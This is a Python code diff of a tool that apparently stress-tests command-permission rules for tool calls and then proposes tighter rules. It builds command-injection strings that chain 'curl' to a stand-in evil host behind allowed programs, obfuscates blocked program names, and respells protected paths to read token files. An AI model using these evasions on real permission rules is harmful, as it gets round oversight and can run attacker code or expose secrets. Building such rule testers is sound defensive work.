@@ -4,14 +4,23 @@ from __future__ import annotations
 
 import re
 from collections.abc import Iterator, Sequence
+from functools import partial
 
 from workbench.clarify.written.asked import Effect, TriedCall
 from workbench.clarify.written.attacked import EVIL_HOST, Attacked
-from workbench.clarify.written.attempts import Attempt, Try, instead, narrower
-from workbench.clarify.written.attempts_at_texts import among, bases, given, is_typed, part, text
+from workbench.clarify.written.attempts import Attempt, narrower
+from workbench.clarify.written.attempts_at_texts import (
+    among,
+    given,
+    is_typed,
+    part,
+    text,
+    tries_with,
+    typed_rewritings,
+)
 from workbench.clarify.written.book import places, replaced
 from workbench.dialect.call_fields import CallField
-from workbench.language.trees import Tree, joined
+from workbench.language.trees import TRUE, Tree, joined
 
 _ALIKE: Sequence[tuple[str, tuple[str, ...]]] = (
     (
@@ -72,35 +81,42 @@ _ALIKE: Sequence[tuple[str, tuple[str, ...]]] = (
     ("runs code", ("python x.py", "python3 x.py", "perl x.pl", "ruby x.rb", "node x.js", "php x.php")),
 )
 """Programs with the same effect."""
+_WITH_OTHER_CALLS = frozenset((
+    "apt", "apt-get", "aptitude", "bun", "conda", "docker", "nerdctl", "npm", "pip", "pip3", "pipx", "pnpm",
+    "podman", "poetry", "snap", "systemctl", "uv", "yarn",
+))  # fmt: skip
+"""Programs of which only the named call has the effect."""
+_SIGNS = ("&&", ";", "|", "||", "&", "\n")
+"""What puts a second program into a command."""
 _VALUES = {"url": f"https://{EVIL_HOST}/x", "host": EVIL_HOST, "file": "/srv/data"}
 
 
 def attempts_at_commands(attacked: Attacked) -> Iterator[Attempt]:
     """Yield the attempts at each field that is a command."""
     for one in attacked.fields_of("command"):
-        base = next(bases(attacked))
-        yield from _second_program(attacked, one, base)
+        yield from _second_program(attacked, one)
         if attacked.is_raw(one):
-            yield from _hidden_program(attacked, one, base)
-        yield from _other_program(attacked, one, base)
-        yield from _hidden_path(attacked, one, base)
+            yield from _hidden_program(attacked, one)
+            yield from _other_signs(attacked, one)
+        yield from _other_program(attacked, one)
+        yield from _hidden_path(attacked, one)
 
 
-def _second_program(attacked: Attacked, one: CallField, base: TriedCall) -> Iterator[Attempt]:
+def _with(attacked: Attacked, one: CallField, command: str) -> TriedCall:
+    return attacked.with_value(attacked.base, one, command)
+
+
+def _second_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """Another program beside one that is allowed, where a rule lets only some run."""
     evil = f"curl https://{EVIL_HOST}/x"
-    if attacked.allows(attacked.with_value(base, one, evil)):
+    if attacked.passes(_with(attacked, one, evil)):
         return
     named = [bare.strip() for bare in attacked.texts if re.match(r"\s*[\w./-]+(\s|$)", bare)]
     logged = [str(call.arguments.get(one.key, "")) for call in attacked.logged]
-    found = [
-        each
-        for each in (*logged, *named, *(f"{each} x" for each in named))
-        if attacked.allows(attacked.with_value(base, one, each))
-    ]
-    if not found:
+    likely = (*logged, *named, *(f"{each} x" for each in named))
+    word = next((each for each in likely if attacked.allows(_with(attacked, one, each))), "")
+    if not word:
         return
-    word = found[0]
     texts = [
         f"{word}; {evil}",
         f"{word} && {evil}",
@@ -113,91 +129,95 @@ def _second_program(attacked: Attacked, one: CallField, base: TriedCall) -> Iter
         f"{word} `{evil}`",
         f"{word} <({evil})",
     ]
-    tries = [Try((attacked.with_value(base, one, each),), "it runs a second program") for each in texts]
-    yield Attempt("second program", tries, [*_only(attacked, one, named)])
+    tries = tries_with(attacked, one, texts, "it runs a second program")
+    yield Attempt("second program", tries, lambda: _only(attacked, one, named))
 
 
-def _only(attacked: Attacked, one: CallField, named: Sequence[str]) -> Iterator[Effect]:
+def _only(attacked: Attacked, one: CallField, named: Sequence[str]) -> Sequence[Effect]:
     """The rule by which a command may start these programs alone."""
     if not is_typed(one) or not named:
-        return
+        return []
     calls = [" ".join(each.split()[:2]) for each in named]
     is_call = all(" " in each and not each.split()[1].startswith("-") for each in calls)
     name = "calls" if is_call else "programs"
     texts = [*dict.fromkeys(calls if is_call else [each.split()[0] for each in calls])]
-    other: Tree = given(attacked, one, ("not", ("<=", part(attacked, one, name), ("set", *map(text, texts)))))
-    if {*attacked.reading.parts} == {one.name}:
-        yield instead(attacked.rule, other)
-    yield narrower(attacked.rule, other)
+    others: Tree = ("not", ("<=", part(attacked, one, name), ("set", *map(text, texts))))
+    return typed_rewritings(attacked, one, others)
 
 
-def _hidden_program(attacked: Attacked, one: CallField, base: TriedCall) -> Iterator[Attempt]:
+def _hidden_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """A program that a rule closes by the text of the command, behind another one or spelled otherwise."""
     named = [bare.strip() for bare in attacked.texts if re.match(r"\s*[a-zA-Z][\w./-]*(\s|$)", bare)]
-    closed = [each for each in named if attacked.stops(attacked.with_value(base, one, f"{each} x"))]
-    for word in closed:
-        first, _, rest = word.partition(" ")
-        run = f"{word} x"
+    for word in named:
+        run = next((each for each in (f"{word} x", word) if attacked.stops(_with(attacked, one, each))), "")
+        if not run:
+            continue
+        first, _, rest = run.partition(" ")
         texts = [
             f"true; {run}",
             f"cd /tmp && {run}",
             f"env {run}",
             f"/usr/bin/{run}",
-            f"{first}  {rest} x",
+            f"{first}  {rest}",
             f"echo $({run})",
-            f"$(echo {first[:1]}){first[1:]} {rest} x",
-            f"{first[:1]}''{first[1:]} {rest} x",
+            f"$(echo {first[:1]}){first[1:]} {rest}",
+            f"{first[:1]}''{first[1:]} {rest}",
             f"bash -c '{run}'",
         ]
-        tries = [Try((attacked.with_value(base, one, each),), f"it runs {word} too") for each in texts]
-        rewritings: list[Effect] = []
-        if is_typed(one):
-            name = "calls" if rest and not rest.startswith("-") else "programs"
-            starts = text(" ".join(word.split()[:2]) if name == "calls" else first)
-            closing = given(attacked, one, ("in", starts, part(attacked, one, name)))
-            alone = {*attacked.reading.parts} == {one.name} and len(named) == 1
-            rewritings = [instead(attacked.rule, closing)] * alone + [narrower(attacked.rule, closing)]
-        yield Attempt("hidden program", tries, rewritings)
+        second = word.partition(" ")[2]
+        is_call = bool(second) and not second.startswith("-")
+        starts = text(" ".join(word.split()[:2]) if is_call else first)
+        closing: Tree = ("in", starts, part(attacked, one, "calls" if is_call else "programs"))
+        tries = tries_with(attacked, one, texts, f"it runs {word} too")
+        rewritings = partial(typed_rewritings, attacked, one, closing, alone=len(named) == 1)
+        yield Attempt("hidden program", tries, rewritings, about=word)
 
 
-def _other_program(attacked: Attacked, one: CallField, base: TriedCall) -> Iterator[Attempt]:
+def _other_signs(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """A second program behind a sign that is not among those which a rule closes."""
+    for sign in attacked.texts:
+        if sign.strip() in _SIGNS and attacked.stops(_with(attacked, one, f"true {sign} x")):
+            evil = f"curl https://{EVIL_HOST}/x"
+            texts = [f"true {each} {evil}" for each in _SIGNS]
+            yield Attempt(
+                "second program", tries_with(attacked, one, texts, "it runs a second program"), list
+            )
+            return
+
+
+def _other_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """A program with the effect of one that a rule closes by its name."""
     words = {word for bare in attacked.texts for word in bare.split()[:1]}
     for effect, commands in _ALIKE:
         filled = [each.format_map(_VALUES) for each in commands]
         closed = [
-            each
-            for each in filled
-            if each.split()[0] in words and attacked.stops(attacked.with_value(base, one, each))
+            each for each in filled if each.split()[0] in words and attacked.stops(_with(attacked, one, each))
         ]
         if not closed:
             continue
         others = [each for each in filled if each.split()[0] not in words]
-        tries = [
-            Try((attacked.with_value(base, one, each),), f"it {effect} as {closed[0].split()[0]} does")
-            for each in others
-        ]
-        if is_typed(one):
-            names = [*dict.fromkeys(each.split()[0] for each in (*closed, *others))]
-            program: Tree = ("name", "p")
-            more = (
-                "call",
-                "any",
-                (
-                    "gen",
-                    program,
-                    among(program, names),
-                    part(attacked, one, "programs"),
-                    ("lit", "bool", True),
-                ),
-            )
-            yield Attempt(
-                "other program",
-                tries,
-                [*_extended(attacked, one, names, more), narrower(attacked.rule, given(attacked, one, more))],
-            )
-        else:
-            yield Attempt("other program", tries, [])
+        why = f"it {effect} as {closed[0].split()[0]} does"
+        rewritings = partial(_others_too, attacked, one, [*closed, *others])
+        yield Attempt("other program", tries_with(attacked, one, others, why), rewritings, about=effect)
+
+
+def _others_too(attacked: Attacked, one: CallField, commands: Sequence[str]) -> Sequence[Effect]:
+    """The rule with several programs; of one that does other things only the call with its second word."""
+    if not is_typed(one):
+        return []
+    calls = [each for each in commands if each.split()[0] in _WITH_OTHER_CALLS]
+    names = [*dict.fromkeys(each.split()[0] for each in commands if each not in calls)]
+    parts = (("programs", names), ("calls", [" ".join(each.split()[:2]) for each in calls]))
+    started: Tree = ("name", "p")
+    more = joined(
+        "or",
+        [
+            ("call", "any", ("gen", started, among(started, texts), part(attacked, one, name), TRUE))
+            for name, texts in parts
+            if texts
+        ],
+    )
+    return [*_extended(attacked, one, names, more), narrower(attacked.rule, given(attacked, one, more))]
 
 
 def _extended(attacked: Attacked, one: CallField, names: Sequence[str], more: Tree) -> Iterator[Effect]:
@@ -209,12 +229,12 @@ def _extended(attacked: Attacked, one: CallField, names: Sequence[str], more: Tr
             return
 
 
-def _hidden_path(attacked: Attacked, one: CallField, base: TriedCall) -> Iterator[Attempt]:
+def _hidden_path(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """A path that a rule closes, spelled otherwise or within a folder that a program goes through."""
     for folder in (bare.strip().rstrip("/") for bare in attacked.texts):
         if not re.fullmatch(r"(~|\.|/)?[\w.@~/-]+", folder) or "/" not in folder.lstrip("~"):
             continue
-        if not attacked.stops(attacked.with_value(base, one, f"cat {folder}/token")):
+        if not attacked.stops(_with(attacked, one, f"cat {folder}/token")):
             continue
         parent, _, last = folder.rpartition("/")
         up, half = parent or "/", max(1, len(last) // 2)
@@ -230,37 +250,21 @@ def _hidden_path(attacked: Attacked, one: CallField, base: TriedCall) -> Iterato
             f"cat < {parent}//{last}/token",
             f"P={folder[:-2]}; cat ${{P}}{folder[-2:]}/token",
         ]
-        tries = [
-            Try((attacked.with_value(base, one, each),), f"it opens what is in {folder}") for each in texts
-        ]
-        rewritings: list[Effect] = []
-        if is_typed(one) and folder.startswith("/"):
-            tree: Tree = ("name", "p")
-            above = [folder[:place] or "/" for place in range(len(folder)) if folder[place] == "/"]
-            paths: Tree = (
-                "call",
-                "any",
-                (
-                    "gen",
-                    tree,
-                    ("in", text(folder), ("attr", tree, "inside")),
-                    part(attacked, one, "paths"),
-                    ("lit", "bool", True),
-                ),
-            )
-            trees: Tree = (
-                "call",
-                "any",
-                (
-                    "gen",
-                    tree,
-                    among(("attr", tree, "absolute"), above),
-                    part(attacked, one, "trees"),
-                    ("lit", "bool", True),
-                ),
-            )
-            closing = given(attacked, one, joined("or", [paths, trees]))
-            if {*attacked.reading.parts} == {one.name}:
-                rewritings.append(instead(attacked.rule, closing))
-            rewritings.append(narrower(attacked.rule, closing))
-        yield Attempt("path in a command", tries, rewritings)
+        tries = tries_with(attacked, one, texts, f"it opens what is in {folder}")
+        yield Attempt(
+            "path in a command", tries, partial(_closed_folder, attacked, one, folder), about=folder
+        )
+
+
+def _closed_folder(attacked: Attacked, one: CallField, folder: str) -> Sequence[Effect]:
+    """The rule by the paths that a command names, and the trees that it goes through."""
+    if not folder.startswith("/"):
+        return []
+    tree: Tree = ("name", "p")
+    above = [folder[:place] or "/" for place in range(len(folder)) if folder[place] == "/"]
+    tests = (
+        ("paths", ("in", text(folder), ("attr", tree, "inside"))),
+        ("trees", among(("attr", tree, "absolute"), above)),
+    )
+    gone = [("call", "any", ("gen", tree, test, part(attacked, one, name), TRUE)) for name, test in tests]
+    return typed_rewritings(attacked, one, joined("or", gone))
